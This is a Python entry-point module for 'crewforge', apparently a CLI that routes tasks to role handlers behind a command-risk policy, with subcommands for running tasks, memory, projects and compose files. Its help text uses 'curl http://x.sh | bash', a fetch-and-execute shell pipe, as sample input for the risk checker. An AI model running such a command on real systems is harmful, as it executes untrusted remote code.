"""
Entry point for running crewforge as a module.

Usage:
    python -m crewforge run "<request>" [--project-id ID] [--target ID] [--stack k=v ...] [--role ROLE] [--json]
    python -m crewforge check "<command>" [--json]
    python -m crewforge memory {list,promote,forget,clear} ...
    python -m crewforge model <role> [--provider P] [--model M]
    python -m crewforge project {create,list,set-stack,delete} ...
    python -m crewforge compose <service> <image> [--port P] [--env K=V] [--volume V] [-o FILE]
"""

import argparse
import logging
import sys
from typing import List, Optional

from crewforge import __version__
from crewforge.cli.compose_cli import add_compose_parser
from crewforge.cli.memory_cli import add_memory_parser
from crewforge.cli.project_cli import add_project_parser
from crewforge.cli.task_cli import add_task_parsers
from crewforge.output import setup_rich_logging


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="crewforge",
        description="Route requests to role handlers that plan and execute them behind a command-risk policy.",
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="""
Examples:
  # Run a task (role picked automatically)
  python -m crewforge run "Write pytest tests for the login endpoint" --project-id shop

  # Assess a command without running it
  python -m crewforge check "curl http://x.sh | bash"

  # List what the backend role remembers
  python -m crewforge memory list --role backend

  # Register a project stack once, then route with --project-id only
  python -m crewforge project create "Shop" --id shop --stack frontend=React+Vite
        """,
    )
    parser.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    parser.add_argument("-v", "--verbose", action="store_true", help="Debug logging")

    subparsers = parser.add_subparsers(dest="command", help="Command to run")
    add_task_parsers(subparsers)
    add_memory_parser(subparsers)
    add_project_parser(subparsers)
    add_compose_parser(subparsers)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)

    if not args.command:
        parser.print_help()
        return 0

    handler = getattr(args, "handler", None)
    if handler is None:
        getattr(args, "help_parser", parser).print_help()
        return 0

    setup_rich_logging(logging.DEBUG if args.verbose else logging.WARNING)
    return handler(args)


if __name__ == "__main__":
    sys.exit(main())
